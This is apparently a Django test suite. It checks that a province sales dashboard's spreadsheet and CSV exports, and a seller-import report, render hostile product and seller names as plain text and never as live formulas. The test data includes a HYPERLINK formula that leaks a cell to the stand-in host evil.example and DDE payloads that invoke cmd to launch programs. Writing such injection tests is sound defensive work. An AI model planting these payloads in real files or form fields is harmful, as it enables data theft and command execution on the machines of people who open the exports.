"""Exports are data, never code: hostile product and seller names through the real export endpoints.

Finding 2 of issue 14: a product named `=HYPERLINK("http://evil.example/?d="&B3,"Xem")` was a live
formula in the province dashboard's .xlsx and a cell spreadsheets evaluate in its .csv.
"""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook

from backend.core.exports import Sheet, csv_text, neutralize, xlsx_bytes
from tests.factories import CategoryFactory, SellerFactory, VariantFactory
from tests.factories import commune as commune_by_code
from tests.reports.helpers import make_order, province_admin

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B3,"Xem")'
DDE = "@SUM(1+9)*cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, "+cmd|' /C notepad'!A1", "-2+3+cmd|' /C calc'!A0", DDE, "\t=1+1", "\r=1+1"]
QUERY = {"province": "lam-dong", "date_from": "2026-11-01", "date_to": "2026-11-07"}
ENDPOINTS = ["/province/dashboard/export", "/admin/reports/alert/dashboard/export"]


@pytest.fixture
def hostile_trade(regions: None) -> None:
    lam_vien = commune_by_code("24778")
    seller = SellerFactory(name=DDE, commune=lam_vien)
    category = CategoryFactory(name="-Trái cây", slug="trai-cay")
    product = VariantFactory(product__seller=seller, product__name=HYPERLINK, product__category=category).product
    make_order([(seller, [(product, 2, 100_000)], 0)], commune=lam_vien, sold_at="2026-11-02 10:00")


def _client() -> Client:
    client = Client()
    client.force_login(province_admin())
    return client


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_xlsx_holds_hostile_names_as_text_never_formulas(hostile_trade: None, endpoint: str) -> None:
    answer = _client().get(endpoint + ".xlsx", QUERY)
    assert answer.status_code == 200

    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)  # no formula anywhere
    book = load_workbook(io.BytesIO(answer.content))
    cells = {c.value: c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None}
    for name in (HYPERLINK, DDE, "-Trái cây"):
        assert cells[name].data_type == "s", name
        assert cells[name].quotePrefix, name  # editing the cell keeps it text
    assert isinstance(cells[200_000].value, int)  # figures stay numbers


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_csv_cells_with_formula_characters_start_with_an_apostrophe(hostile_trade: None, endpoint: str) -> None:
    answer = _client().get(endpoint + ".csv", QUERY)
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells and "'" + DDE in cells and "'-Trái cây" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "200000" in cells


@pytest.mark.parametrize("text", HOSTILE)
def test_the_owasp_rule(text: str) -> None:
    assert neutralize(text) == "'" + text
    assert neutralize("Dâu tây = ngon") == "Dâu tây = ngon"  # only the first character matters
    assert neutralize(-5) == -5 and neutralize(12.5) == 12.5


def test_every_writer_uses_the_helper() -> None:
    sheet = Sheet("s", "", ["name"], [[text] for text in HOSTILE])
    rows = list(csv.reader(io.StringIO(csv_text([sheet]))))
    assert rows == [["name"], *[["'" + text] for text in HOSTILE]]
    book = load_workbook(io.BytesIO(xlsx_bytes([sheet])))
    assert [c.data_type for (c,) in book["s"].iter_rows(min_row=2)] == ["s"] * len(HOSTILE)


def test_the_import_report_file_keeps_echoed_values_as_data(regions: None, tmp_path: Any) -> None:
    """The report names the existing seller a row was merged into: a name chosen by a user."""
    SellerFactory(name=HYPERLINK, phone="+84903123456", commune=commune_by_code("24778"))
    upload = tmp_path / "legacy.csv"
    upload.write_text("type,name,kind,commune,phone\nseller,HTX Cũ,HTX,24778,0903 123 456\n")
    report = tmp_path / "report.csv"
    admin = province_admin()
    call_command("import_sellers", str(upload), "--actor", admin.email, "--report", str(report), stdout=io.StringIO())
    title, header, *rows = list(csv.reader(io.StringIO(report.read_text("utf-8-sig"))))
    assert len(title) == 1 and len(header) == 6
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
